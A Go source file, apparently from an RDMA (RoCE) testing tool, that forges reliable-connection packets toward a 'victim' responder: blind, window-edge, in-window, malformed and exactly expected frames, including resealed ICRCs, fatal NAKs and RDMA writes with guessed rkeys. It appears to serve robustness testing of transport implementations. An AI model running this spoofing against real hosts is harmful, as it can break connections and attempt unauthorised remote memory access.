package spoof

import (
	"encoding/binary"

	"github.com/xdproce/xdproce/wire"
)

// maxWindow is the most PSNs an RC requester keeps outstanding (rxe's and
// xdproce's 128). Sniffed PSNs lag the wire a little; "ahead" edges that
// must stay outside the window whatever the lag are this far past it.
const (
	maxWindow = 128
	lagMargin = 4096
)

// requestKinds a forger sends to the victim's responder.
var requestKinds = []wire.Opcode{
	wire.RCSendOnly, wire.RCSendFirst, wire.RCSendMiddle, wire.RCWriteOnly, wire.RCWriteFirst,
	wire.RCReadRequest, wire.RCCompareSwap, wire.RCFetchAdd,
}

// frame encodes a packet from the peer to the victim; fill sets what the
// opcode carries.
func (s *Spoofer) frame(op wire.Opcode, psn uint32, payload int, fill func(p *wire.Packet)) []byte {
	var p wire.Packet
	p.Eth = wire.Ethernet{Dst: [6]byte(s.cfg.Victim.MAC), Src: [6]byte(s.cfg.Peer.MAC)}
	p.IP = wire.IP{V6: !s.cfg.Victim.IP.Is4(), Src: s.cfg.Peer.IP, Dst: s.cfg.Victim.IP, TTL: 64, DF: true}
	if p.IP.V6 {
		p.IP.DF = false
	}
	port := s.v.udpPort
	if port == 0 {
		port = 0xc000 | uint16(s.rng.IntN(1<<14))
	}
	p.UDP = wire.UDP{SrcPort: port, DstPort: wire.UDPPort}
	p.BTH = wire.BTH{Opcode: op, PKey: 0xffff, DestQP: s.v.victimQPN, PSN: psn & 0xffffff}
	if payload > 0 {
		p.Payload = make([]byte, payload)
		for i := range p.Payload {
			p.Payload[i] = byte(s.rng.Uint32())
		}
	}
	if fill != nil {
		fill(&p)
	}
	buf := make([]byte, payload+256)
	n, err := wire.Encode(buf, &p)
	if err != nil {
		return nil
	}
	return buf[:max(n, wire.MinFrameLen)]
}

// response forges a response of kind k at psn, with a READ response's
// payload shaped as the opcode wants (wrong: the wrong length for it).
func (s *Spoofer) response(k int, psn uint32, wrong bool) []byte {
	kind := s.kinds[k%len(s.kinds)]
	n := 0
	switch kind.Opcode {
	case wire.RCReadResponseFirst, wire.RCReadResponseMiddle:
		n = s.cfg.PMTU
		if wrong {
			n = s.cfg.PMTU - 4
		}
	case wire.RCReadResponseLast, wire.RCReadResponseOnly:
		n = 4 * (1 + s.rng.IntN(s.cfg.PMTU/4))
		if wrong {
			n = s.cfg.PMTU + 4 // longer than the path MTU
		}
	}
	return s.frame(kind.Opcode, psn, n, func(p *wire.Packet) {
		p.AETH = wire.AETH{Syndrome: kind.Syndrome, MSN: s.rng.Uint32() & 0xffffff}
		p.AtomicAck = s.rng.Uint64()
	})
}

// request forges a request of kind k at psn, naming a random rkey.
func (s *Spoofer) request(k int, psn uint32) []byte {
	op := requestKinds[k%len(requestKinds)]
	info, _ := op.Info()
	n := 0
	if info.Headers&wire.HasPayload != 0 {
		n = s.cfg.PMTU
		if info.Flags&wire.FlagEnd != 0 {
			n = 4 * (1 + s.rng.IntN(16))
		}
	}
	return s.frame(op, psn, n, func(p *wire.Packet) {
		va := s.rng.Uint64() &^ 7
		p.RETH = wire.RETH{VA: va, RKey: s.rng.Uint32(), Len: uint32(max(n, 64))}
		p.AtomicETH = wire.AtomicETH{VA: va, RKey: s.rng.Uint32(), SwapAdd: s.rng.Uint64(), Compare: s.rng.Uint64()}
	})
}

// blind: any kind, any PSN.
func (s *Spoofer) blind() []byte {
	psn := s.rng.Uint32() & 0xffffff
	if s.rng.IntN(2) == 0 {
		return s.response(s.rng.IntN(len(s.kinds)), psn, false)
	}
	return s.request(s.rng.IntN(len(requestKinds)), psn)
}

// edge: the PSNs just behind what the peer has acknowledged (responses) or
// requested (requests, which the victim then sees as duplicates), and past
// the most the victim can have outstanding.
func (s *Spoofer) edge() []byte {
	v := &s.v
	if s.rng.IntN(2) == 0 && (v.havePeerAck || v.haveVictimReq) {
		var psn uint32
		switch {
		case v.havePeerAck && s.rng.IntN(2) == 0:
			psn = v.peerAck - uint32(s.rng.IntN(3)) // at and behind the oldest acknowledged: outside
		case v.haveVictimReq:
			psn = v.victimReq + maxWindow + lagMargin + uint32(s.rng.IntN(3)) // ahead of anything sent
		default:
			psn = v.peerAck + maxWindow + lagMargin
		}
		return s.response(s.rng.IntN(len(s.kinds)), psn, false)
	}
	if !v.haveReq {
		return nil
	}
	psn := v.peerReq - uint32(s.rng.IntN(2)) // duplicates of the last requests
	if s.rng.IntN(2) == 0 {
		psn = v.peerReq + lagMargin + uint32(s.rng.IntN(3)) // far enough ahead never to be expected next
	}
	return s.request(s.rng.IntN(len(requestKinds)), psn)
}

// inWindow: responses between what the peer acknowledged and what the
// victim sent that are wrong in shape or harmless (sequence and RNR NAKs,
// which cost a retransmission), never a right-shaped answer; and requests
// at PSNs the victim's responder has already seen.
func (s *Spoofer) inWindow() []byte {
	v := &s.v
	if !v.haveVictimReq || !v.havePeerAck || s.rng.IntN(3) == 0 {
		if !v.haveReq {
			return nil
		}
		return s.request(s.rng.IntN(len(requestKinds)), v.peerReq-uint32(s.rng.IntN(8)))
	}
	span := (v.victimReq - v.peerAck) & 0xffffff
	if span == 0 || span > maxWindow {
		// Nothing outstanding that the frames seen show (or they lag):
		// a duplicate request instead of a guess that could hit.
		if !v.haveReq {
			return nil
		}
		return s.request(s.rng.IntN(len(requestKinds)), v.peerReq-uint32(s.rng.IntN(8)))
	}
	psn := v.peerAck + 1 + uint32(s.rng.IntN(int(span)))
	// A NAK implicitly acknowledges every PSN before its own (IBTA; rxe
	// completes them): one past what the peer acknowledged would complete
	// requests the peer may never have received, which no RNIC can tell
	// from the peer's own NAK. At the first unacknowledged PSN it
	// acknowledges nothing new and costs a retransmission.
	nakPSN := v.peerAck + 1
	switch s.rng.IntN(4) {
	case 0:
		return s.response(1, nakPSN, false) // sequence NAK
	case 1:
		return s.response(6, nakPSN, false) // RNR NAK
	case 2:
		if v.atomics[psn&0xffffff] {
			return s.response(1, psn, false)
		}
		return s.response(len(s.kinds)-1, psn, false) // atomic ACK where no atomic is
	}
	return s.response(7+s.rng.IntN(4), psn, true) // READ response of the wrong length
}

// malformed: a valid frame broken in one way.
func (s *Spoofer) malformed() []byte {
	v := &s.v
	psn := v.peerReq + lagMargin
	f := s.request(0, psn) // SEND_ONLY with a payload
	if f == nil {
		return nil
	}
	l3 := 14
	ipLen := 20
	if !s.cfg.Victim.IP.Is4() {
		ipLen = 40
	}
	bth := l3 + ipLen + 8
	switch s.rng.IntN(8) {
	case 0: // truncated at a header boundary
		cuts := []int{l3 + 4, bth - 4, bth + 6, bth + 12} // not inside the Ethernet header: no link carries that
		return f[:cuts[s.rng.IntN(len(cuts))]]
	case 1: // unknown opcode, valid ICRC
		f[bth] = 0x1f
		return reseal(f)
	case 2: // another partition's P_Key, valid ICRC
		binary.BigEndian.PutUint16(f[bth+2:], 0x1234)
		return reseal(f)
	case 3: // pad count beyond the payload, valid ICRC
		f[bth+1] |= 3 << 4
		return reseal(f)
	case 4: // bad ICRC
		f[len(f)-1] ^= 0xff
		return f
	case 5: // UDP length disagreeing with the IP length
		binary.BigEndian.PutUint16(f[l3+ipLen+4:], binary.BigEndian.Uint16(f[l3+ipLen+4:])+4)
		return f
	case 6: // oversized: a SEND_ONLY longer than the path MTU
		return s.frame(wire.RCSendOnly, psn, s.cfg.PMTU+64, nil)
	}
	// header version: TVer 1
	f[bth+1] |= 1
	return reseal(f)
}

// reseal writes a valid ICRC into a frame whose headers were changed.
func reseal(f []byte) []byte {
	icrc, err := wire.ICRC(f)
	if err != nil {
		return f
	}
	binary.LittleEndian.PutUint32(f[len(f)-4:], icrc)
	return f
}

// exact: what the victim expects next — a request at its responder's
// expected PSN naming a random rkey, or a fatal NAK for its oldest
// outstanding request. No RNIC can tell these from the peer's.
func (s *Spoofer) exact() []byte {
	v := &s.v
	if v.haveVictimReq && v.havePeerAck && v.victimReq != v.peerAck && s.rng.IntN(2) == 0 {
		return s.response(3, v.peerAck+1, false) // remote access NAK
	}
	if !v.haveReq {
		return nil
	}
	return s.request(3, v.peerReq+1) // WRITE_ONLY, random rkey
}
